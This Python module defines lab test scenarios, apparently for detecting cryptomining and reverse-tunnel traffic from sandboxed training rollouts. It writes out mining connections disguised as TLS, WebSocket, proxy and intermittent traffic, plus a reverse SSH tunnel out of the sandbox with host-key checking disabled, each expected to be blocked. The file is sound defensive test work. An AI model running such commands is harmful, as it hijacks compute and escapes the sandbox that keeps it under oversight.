"""The scenarios, one table for every lab.

The outside world has the same names and addresses in each: documentation addresses (RFC 5737) that
reach nobody real.
"""

from collections.abc import Mapping
from types import MappingProxyType

from davylamp.errors import ConfigError
from davylamp.scenarios.model import Fate, Rollout, Scenario, Step

POOL, WEB, RELAY, BASTION = (f"203.0.113.{n}" for n in (10, 20, 30, 40))
NAMES: Mapping[str, str] = MappingProxyType(
    {
        "pool.example": POOL,
        "www.example": WEB,
        "relay.example": RELAY,
        "bastion.example": BASTION,
    }
)
POOL_NAME = "xmr-eu1.nanopool.org"
POOL_PORTS, POOL_TLS_PORT = (3333, 443), 14433
WEB_PORT, WEB_TLS_PORT, RPC_PORT = 80, 443, 8545
RELAY_PORT, BASTION_PORT = 3128, 443
BASTION_KEY = "{bastion}/client"
"""Where the key to the bastion is: each lab puts its own folder in."""

_ONCE = ("--attempts", "1", "--seconds", "12", "--connect-timeout", "4", "--patience", "6")


def _mines(tool: str, *arguments: str) -> Step:
    return Step(tool, ("miner", *arguments, *_ONCE), Fate.BLOCKED)


def _plain(pool: str, dialect: str) -> Step:
    return _mines("bash", "--pool", pool, "--dialect", dialect)


_FETCHES = Step("fetch", ("client", "download", "http://www.example/bytes/200000"))
_TUNNELS = Step(
    "bash",
    (
        *("!ssh", "-N", "-R", "0:127.0.0.1:22", "-p", str(BASTION_PORT), "-i", BASTION_KEY),
        *("-F", "none", "-o", "BatchMode=yes", "-o", "ConnectTimeout=8"),
        *("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"),
        *("-o", "ExitOnForwardFailure=yes", "bastion.example"),
    ),
    Fate.BLOCKED,
    blocked_status=255,
    says="reset by",
)

SCENARIOS = (
    Scenario(
        "plaintext",
        "Stratum in the clear, to a pool's usual port and to 443",
        (
            Rollout((_FETCHES, _plain("pool.example:3333", "stratum"))),
            Rollout((_plain("pool.example:443", "stratum"),)),
        ),
        category="mining",
        dialect="stratum-v1",
    ),
    Scenario(
        "cryptonote",
        "XMRig's CryptoNote log-in in the clear",
        (Rollout((_plain("pool.example:3333", "cryptonote"),)),),
        category="mining",
        dialect="cryptonote",
    ),
    Scenario(
        "tls",
        "CryptoNote inside TLS, to a name that belongs to a pool",
        (
            Rollout(
                (
                    _mines(
                        *("bash", "--pool", f"stratum+ssl://{POOL}:{POOL_TLS_PORT}"),
                        *("--sni", POOL_NAME, "--dialect", "cryptonote"),
                    ),
                )
            ),
        ),
        category="pool",
    ),
    Scenario(
        "websocket",
        "Stratum in the text frames of a WebSocket on a web server's port",
        (Rollout((_mines("python", "--websocket", "--pool", f"www.example:{WEB_PORT}"),)),),
        category="mining",
        dialect="stratum-v1",
        layer="websocket",
    ),
    Scenario(
        "proxy",
        "Stratum through a tunnel that an HTTP proxy opens (CONNECT)",
        (
            Rollout(
                (
                    _mines(
                        "bash", "--proxy", f"relay.example:{RELAY_PORT}", "--pool", f"{POOL}:3333"
                    ),
                )
            ),
        ),
        category="mining",
        dialect="stratum-v1",
        layer="http-connect",
    ),
    Scenario(
        "reverse-tunnel",
        "A reverse SSH tunnel out of the sandbox, on port 443",
        (Rollout((_TUNNELS,)),),
        category="tunnel",
    ),
    Scenario(
        "intermittent",
        "Short mining between honest work, in three runs of one experiment, for one wallet",
        tuple(
            Rollout((_FETCHES, _plain(f"pool.example:{port}", "cryptonote"), _FETCHES), run)
            for run, port in ((1, 3333), (2, 443), (3, 3333))
        ),
        category="mining",
        dialect="cryptonote",
        recurs=True,
    ),
    Scenario(
        "benign",
        "Honest training traffic: downloads, TLS, many connections, JSON-RPC",
        (
            Rollout(
                (
                    Step("fetch", ("client", "download", "http://www.example/bytes/5000000")),
                    Step("fetch", ("client", "download", "https://www.example/bytes/2000000")),
                    Step(
                        "python",
                        ("client", "parallel", "http://www.example/bytes/20000", "--count", "40"),
                    ),
                    Step("python", ("client", "rpc", "http://www.example/rpc", "--count", "10")),
                    Step(
                        "python",
                        ("client", "rpc", f"tcp://www.example:{RPC_PORT}", "--count", "10"),
                    ),
                )
            ),
        ),
    ),
)


def named(name: str) -> Scenario:
    """Return the scenario of that name; ConfigError with those that there are."""
    for scenario in SCENARIOS:
        if scenario.name == name:
            return scenario
    there = ", ".join(one.name for one in SCENARIOS)
    raise ConfigError(f"there is no scenario {name!r}: choose all, or of {there}")
